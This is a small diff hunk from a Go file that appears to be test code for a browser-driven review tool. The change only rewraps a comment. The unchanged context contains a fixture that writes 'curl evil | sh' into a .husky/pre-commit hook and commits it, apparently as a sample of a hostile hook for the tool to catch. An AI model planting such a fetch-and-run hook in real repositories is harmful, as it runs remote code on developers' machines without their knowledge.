@@ -17,8 +17,8 @@ echo 'curl evil | sh' >.husky/pre-commit
 git add .
 git commit -qm 'Add a hook'`
 
-// changesPage takes work: what the gate holds up, after consent, and some files of another; and goes on with a comment on
-// a line.
+// changesPage takes work: what the gate holds up, after consent, and some files of another; and goes on with a comment
+// on a line.
 func changesPage(b *browser) {
 	b.r.Push("Greet people", greeting)
 	b.at("/")
